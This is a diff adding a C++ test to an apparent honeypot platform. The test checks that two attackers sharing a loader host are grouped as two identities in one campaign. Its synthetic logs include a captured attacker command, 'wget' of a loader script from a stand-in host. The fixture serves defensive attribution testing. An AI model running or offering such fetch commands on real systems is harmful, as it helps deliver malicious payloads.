@@ -279,5 +279,42 @@ TEST_F(ServeIdentities, RebuildAgreesWithTheIncrementalIdentities) {
   EXPECT_NE(grouping(), identities);  // new rows, same grouping
 }
 
+// The reference's fixture 5: two operators with their own tools (JA3 and HASSH differ) sharing
+// a loader and its download host stay two identities, and are one campaign.
+TEST_F(ServeIdentities, TwoOperatorsSharingInfrastructureAreTwoIdentitiesAndOneCampaign) {
+  const std::string sha(64, 'b');
+  std::string stream;
+  int t = 0;
+  for (const auto& [ip, tool] :
+       {std::pair<std::string, std::string>{"198.51.100.61", "op-a"}, {"198.51.100.62", "op-b"}}) {
+    stream += ja3(t + 1, ip, tool + "-ja3") + hassh(t + 2, ip, tool + "-hassh");
+    t += 2;
+    stream += line(++t, "decky-05", "ssh", "file_captured",
+                   "src_ip=\"" + ip + "\" sha256=\"" + sha + "\" stored_as=\"l\"");
+    stream += line(++t, "decky-05", "bash", "command",
+                   "src_ip=\"" + ip + "\" command=\"wget http://loader.example/l.sh\"");
+  }
+  send(stream);
+  ASSERT_TRUE(wait_until([&] { return serve_.api("GET", "/api/v1/campaigns").body["total"] == 1; },
+                         std::chrono::seconds(30)))
+      << serve_.output();
+  const auto g = grouping();
+  EXPECT_NE(g.at("198.51.100.61"), g.at("198.51.100.62"));
+  const auto listed = serve_.api("GET", "/api/v1/campaigns");
+  const auto uuid = listed.body["data"][0]["uuid"].get<std::string>();
+  const auto detail = serve_.api("GET", "/api/v1/campaigns/" + uuid);
+  ASSERT_EQ(detail.status, 200) << detail.raw;
+  EXPECT_EQ(detail.body["identity_count_live"], 2);
+  ASSERT_EQ(detail.body["edges"].size(), 1u) << detail.raw;
+  EXPECT_TRUE(detail.body["edges"][0]["linked"].get<bool>());
+  EXPECT_EQ(detail.body["edges"][0]["shared_infra"], 1.0);
+  for (const auto& identity : detail.body["identities"]) {
+    EXPECT_EQ(identity["campaign_id"], uuid);
+  }
+  EXPECT_EQ(serve_.api("GET", "/api/v1/campaigns/" + uuid + "/identities").body["total"], 2);
+  EXPECT_EQ(serve_.api("GET", "/api/v1/campaigns/00000000-0000-4000-8000-000000000000").status,
+            404);
+}
+
 }  // namespace
 }  // namespace decnet::app
